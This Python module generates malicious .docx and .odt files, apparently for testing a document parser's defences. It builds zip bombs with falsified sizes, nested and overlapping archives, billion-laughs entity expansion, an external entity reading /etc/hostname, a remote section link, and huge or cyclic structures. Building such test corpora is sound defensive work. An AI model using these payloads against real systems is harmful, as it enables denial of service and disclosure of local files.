"""Word and OpenDocument bombs: packages that lie about their size, and XML that grows when it is read."""

from __future__ import annotations

import bz2
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping

Build = Callable[[], bytes]
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>"


def zipped(parts: Mapping[str, str | bytes], kind: int = zipfile.ZIP_DEFLATED, level: int = 6) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", kind, compresslevel=level) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx(body: str, **parts: str | bytes) -> bytes:
    """A Word file with this body; `numbering=…` gives `word/numbering.xml`."""
    whole = {"[Content_Types].xml": TYPES, "word/document.xml": f"<w:document {W}><w:body>{body}</w:body></w:document>"}
    return zipped(whole | {f"word/{name}.xml": content for name, content in parts.items()})


def odt(body: str, extra: str = "") -> bytes:
    space = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("office", "text", "table", "style", "draw")
    )
    content = (
        f'<office:document-content {space} office:version="1.2">{extra}<office:body><office:text>{body}'
        "</office:text></office:body></office:document-content>"
    )
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    return zipped(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": content,
            "META-INF/manifest.xml": manifest,
        }
    )


def run(text: str) -> str:
    return f"<w:r><w:t>{text}</w:t></w:r>"


def paragraph(text: str, properties: str = "") -> str:
    return f"<w:p>{properties and f'<w:pPr>{properties}</w:pPr>'}{run(text)}</w:p>"


def field(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def lying(name: str, size: int, claimed: int, others: Mapping[str, str | bytes]) -> bytes:
    """A package with one part that inflates to `size` zeros, but says `claimed` in both directories."""
    data = bytearray(zipped({**others, name: bytes(size)}, level=9))
    real = struct.pack("<I", size)
    at = data.find(real)
    while at >= 0:
        data[at : at + 4] = struct.pack("<I", claimed)
        at = data.find(real, at + 4)
    return bytes(data)


def _entries(count: int) -> bytes:
    """A directory of empty parts, made by hand: the library takes a minute for as many."""
    out, rows = bytearray(), bytearray()
    names = ["[Content_Types].xml", "word/document.xml", *(f"word/{n}" for n in range(count))]
    for name in map(str.encode, names):
        start = len(out)
        out += struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 0, 0, 33, 0, 0, 0, len(name), 0) + name
        rows += struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 0, 0, 33, 0, 0, 0, len(name), 0, 0, 0, 0, 0, start)
        rows += name
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, len(names) & 0xFFFF, len(names) & 0xFFFF, len(rows), len(out), 0)
    return bytes(out + rows + end)


def _nested_zip(levels: int) -> bytes:
    inside = bytes(10_000_000)
    for n in range(levels):
        inside = zipped({f"{n}-{k}.zip": inside for k in range(4)}, level=9)
    return zipped(
        {
            "[Content_Types].xml": TYPES,
            "word/document.xml": f"<w:document {W}><w:body/></w:document>",
            "word/embeddings/a.zip": inside,
        }
    )


def _one_body_often(count: int) -> bytes:
    """Many entries of the directory share one compressed body (the overlapping kind of ZIP bomb)."""
    body = b"<x>" + b" " * 4_000_000 + b"</x>"
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packed.compress(body) + packed.flush()
    crc = zlib.crc32(body)
    out = bytearray(zipped({"[Content_Types].xml": TYPES})[:0])
    rows = bytearray()
    names = ["word/document.xml", *(f"word/media/{n}.xml" for n in range(count))]
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 33, crc, len(data), len(body), len(names[0]), 0)
    out += local + names[0].encode() + data
    for name in map(str.encode, names):
        rows += (
            struct.pack(
                "<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 33, crc, len(data), len(body), len(name), 0, 0, 0, 0, 0, 0
            )
            + name
        )
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, len(names), len(names), len(rows), len(out), 0)
    return bytes(out + rows + end)


def _laughs(depth: int = 12) -> str:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, depth))
    return (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{entities}]>'
        f"<w:document {W}><w:body><w:p><w:r><w:t>&l{depth - 1};</w:t></w:r></w:p></w:body></w:document>"
    )


def _numbering(level: str, count: int, deep: str = "0") -> bytes:
    lists = (
        f'<w:numbering {W}><w:abstractNum w:abstractNumId="1">{level}</w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>'
    )
    item = paragraph("Viec", f'<w:numPr><w:ilvl w:val="{deep}"/><w:numId w:val="1"/></w:numPr>')
    return docx(item * count, numbering=lists)


def _level(text: str, start: str = "1", kind: str = "decimal", at: str = "0") -> str:
    return (
        f'<w:lvl w:ilvl="{at}"><w:start w:val="{start}"/><w:numFmt w:val="{kind}"/><w:lvlText w:val="{text}"/></w:lvl>'
    )


def _styles(count: int) -> str:
    return (
        f"<w:styles {W}>"
        + "".join(
            f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % count}"/></w:style>'
            for n in range(count)
        )
        + "</w:styles>"
    )


def _notes(count: int, lines: int) -> bytes:
    note = f'<w:footnotes {W}><w:footnote w:id="1">{paragraph("x") * lines}</w:footnote></w:footnotes>'
    return docx(
        f"<w:p>{'<w:r><w:footnoteReference w:id=' + chr(34) + '1' + chr(34) + '/></w:r>' * 1}</w:p>" * count,
        footnotes=note,
    )


def _words(count: int) -> Iterator[str]:
    """Words of which none is like the next."""
    return (f"{n * 7919 % 1_000_003:x}{n * 104_729 % 999_983:x}" for n in range(count))


def _boxes(levels: int, wide: int) -> str:
    inside = paragraph("x")
    for _ in range(levels):
        inside = f"<w:p><w:r><w:pict><w:txbxContent>{inside}</w:txbxContent></w:pict></w:r></w:p>"
    return inside * wide


CELL = "<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>"
PARTS: dict[str, str | bytes] = {
    "[Content_Types].xml": TYPES,
    "word/document.xml": f"<w:document {W}><w:body/></w:document>",
}

DOCX: dict[str, Build] = {
    # the package
    "ratio": lambda: zipped(PARTS | {"word/media/a.png": bytes(200_000_000)}, level=9),
    "ratio-of-xml": lambda: zipped(PARTS | {"word/styles.xml": b" " * 90_000_000}, level=9),
    "lies-main": lambda: lying("word/document.xml", 300_000_000, 1000, {"[Content_Types].xml": TYPES}),
    "lies-mimetype": lambda: lying("mimetype", 300_000_000, 40, {"content.xml": "<x/>"}),
    "lies-app": lambda: lying("docProps/app.xml", 300_000_000, 1000, PARTS),
    "entries": lambda: _entries(60_000),
    "entries-wrapped": lambda: _entries(300_000),
    "nested-zip": lambda: _nested_zip(4),
    "one-body-often": lambda: _one_body_often(3_000),
    "bzip2": lambda: zipped({**PARTS, "word/document.xml": bytes(50_000_000)}, zipfile.ZIP_BZIP2),
    "bzip2-lies": lambda: zipped(PARTS, zipfile.ZIP_STORED) + bz2.compress(bytes(1000)),
    "lzma": lambda: zipped({**PARTS, "word/document.xml": bytes(20_000_000)}, zipfile.ZIP_LZMA),
    "long-name": lambda: zipped(PARTS | {"word/" + "a" * 60_000 + str(n): "" for n in range(200)}),
    # XML
    "laughs": lambda: zipped(PARTS | {"word/document.xml": _laughs()}),
    "laughs-behind-space": lambda: zipped(PARTS | {"word/document.xml": " " * 20_000 + _laughs()}),
    "laughs-behind-comment": lambda: zipped(
        PARTS | {"word/document.xml": _laughs().replace("<!DOCTYPE", "<!--" + "x" * 90_000 + "--><!DOCTYPE")}
    ),
    "laughs-utf16": lambda: zipped(
        PARTS
        | {"word/document.xml": _laughs().replace('version="1.0"', 'version="1.0" encoding="utf-16"').encode("utf-16")}
    ),
    "laughs-utf7": lambda: zipped(
        PARTS
        | {
            "word/document.xml": b'<?xml version="1.0" encoding="utf-7"?>'
            + _laughs().partition("?>")[2].encode("utf-7")
        }
    ),
    "outside-entity": lambda: zipped(
        PARTS
        | {
            "word/document.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>'
            + f"<w:document {W}><w:body>"
            + paragraph("&a;")
            + "</w:body></w:document>"
        }
    ),
    "elements": lambda: docx("<w:p/>" * 12_000_000),
    "attributes": lambda: docx("<w:p " + " ".join(f'a{n}="1"' for n in range(1_000_000)) + "/>"),
    "namespaces": lambda: docx("<w:p " + " ".join(f'xmlns:a{n}="urn:{n}"' for n in range(100_000)) + "/>"),
    "depth": lambda: docx("<w:tbl><w:tr><w:tc>" * 3_000 + "</w:tc></w:tr></w:tbl>" * 3_000),
    "depth-below-the-limit": lambda: docx(
        ("<w:sdt><w:sdtContent>" * 120 + paragraph("x") + "</w:sdtContent></w:sdt>" * 120) * 3_000
    ),
    "runs": lambda: docx(f"<w:p>{run('a') * 1_000_000}</w:p>"),
    "paragraphs": lambda: docx(paragraph("a") * 1_000_000),
    "one-text": lambda: docx(paragraph("a" * 60_000_000)),
    "texts": lambda: docx(paragraph("a b " * 2_000_000) * 10),
    "table": lambda: docx(f"<w:tbl>{f'<w:tr>{CELL * 1_000}</w:tr>' * 1_000}</w:tbl>"),
    "tables-in-tables": lambda: docx(
        ("<w:tbl><w:tr><w:tc>" * 70 + paragraph("x") + "</w:tc></w:tr></w:tbl>" * 70) * 3_000
    ),
    # what Word computes
    "numbers-of-a-long-text": lambda: _numbering(_level("%1" * 500_000), 20_000),
    "numbers-of-letters": lambda: _numbering(_level("%1", "2000000000", "lowerLetter"), 1_000),
    "numbers-of-many-digits": lambda: _numbering(_level("%1", "9" * 1_000_000), 10),
    "numbers-padded": lambda: _numbering(
        _level("%1", "1", "custom").replace('w:val="custom"', f'w:val="custom" w:format="{"0" * 5_000_000}1"'), 20_000
    ),
    "levels": lambda: _numbering("".join(_level("%1", at=str(n)) for n in range(100_000)), 20_000, "99999"),
    "styles-in-a-ring": lambda: docx(paragraph("x", '<w:pStyle w:val="s0"/>') * 10_000, styles=_styles(100_000)),
    "fields-in-fields": lambda: docx(
        f"<w:p>{(field('begin') + field('separate') + run('a')) * 60_000}{field('end') * 60_000}</w:p>"
    ),
    "fields-without-end": lambda: docx(f"<w:p>{(field('begin') + run('a')) * 200_000}</w:p>"),
    # the same, with words between that let the package pass for a real one
    "runs-unlike": lambda: docx(f"<w:p>{''.join(map(run, _words(1_000_000)))}</w:p>"),
    "paragraphs-unlike": lambda: docx("".join(map(paragraph, _words(300_000)))),
    "table-unlike": lambda: docx(
        "<w:tbl>"
        + "".join(f"<w:tr>{CELL.replace('>1<', f'>{word}<') * 6}</w:tr>" for word in _words(60_000))
        + "</w:tbl>"
    ),
    "fields-in-fields-unlike": lambda: docx(
        "<w:p>"
        + "".join(field("begin") + field("separate") + run(word) for word in _words(60_000))
        + field("end") * 60_000
        + "</w:p>"
    ),
    "fields-without-end-unlike": lambda: docx(
        "<w:p>" + "".join(field("begin") + run(word) for word in _words(200_000)) + "</w:p>"
    ),
    "soft-breaks-unlike": lambda: docx(
        "<w:p><w:r>" + "".join(f"<w:br/><w:t>{word}</w:t>" for word in _words(400_000)) + "</w:r></w:p>"
    ),
    "depth-below-the-limit-unlike": lambda: docx(
        "".join(
            "<w:sdt><w:sdtContent>" * 110 + paragraph(word) + "</w:sdtContent></w:sdt>" * 110 for word in _words(4_000)
        )
    ),
    "one-note-often": lambda: _notes(20_000, 20_000),
    "boxes-in-boxes": lambda: docx(_boxes(60, 2_000)),
    "soft-breaks": lambda: docx("<w:p><w:r>" + "<w:br/><w:t>a</w:t>" * 1_000_000 + "</w:r></w:p>"),
    "tabs-in-the-head": lambda: docx(
        "<w:p><w:r><w:t>Độc lập - Tự do</w:t>" + "<w:tab/><w:t>a</w:t>" * 500_000 + "</w:r></w:p>"
    ),
    "pages": lambda: zipped(
        PARTS
        | {
            "docProps/app.xml": "<Properties><Pages>99999</Pages></Properties>",
            "word/document.xml": f"<w:document {W}><w:body>{paragraph('a') * 1_000_000}</w:body></w:document>",
        }
    ),
    "relations": lambda: zipped(
        PARTS
        | {
            "word/_rels/document.xml.rels": "<Relationships>"
            + "".join(f'<Relationship Id="r{n}" Type="x/header" Target="header{n}.xml"/>' for n in range(300_000))
            + "</Relationships>"
        }
    ),
    "main-part-is-a-relation": lambda: zipped(
        PARTS
        | {"_rels/.rels": '<Relationships><Relationship Type="x/officeDocument" Target="_rels/.rels"/></Relationships>'}
    ),
}

ODT: dict[str, Build] = {
    "spaces": lambda: odt('<text:p>a<text:s text:c="2000000000"/>b</text:p>'),
    "columns-repeated": lambda: odt(
        '<table:table><table:table-column table:number-columns-repeated="1000000"/>'
        '<table:table-row table:number-rows-repeated="1000000">'
        '<table:table-cell table:number-columns-repeated="1000000">'
        "<text:p>x</text:p></table:table-cell></table:table-row></table:table>"
    ),
    "laughs": lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": _laughs()}),
    "lists": lambda: odt(
        "<text:list><text:list-item>" * 5_000 + "<text:p>x</text:p>" + "</text:list-item></text:list>" * 5_000
    ),
    "tables": lambda: odt(
        "<table:table><table:table-column/><table:table-row><table:table-cell>" * 500
        + "<text:p>x</text:p>"
        + "</table:table-cell></table:table-row></table:table>" * 500
    ),
    "paragraphs": lambda: odt("<text:p>x</text:p>" * 1_000_000),
    "linked": lambda: odt(
        '<text:section text:name="a"><text:section-source '
        'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="http://192.0.2.1/a.odt"/></text:section>'
        "<text:p>Điều 1. Phạm vi</text:p>"
    ),
}
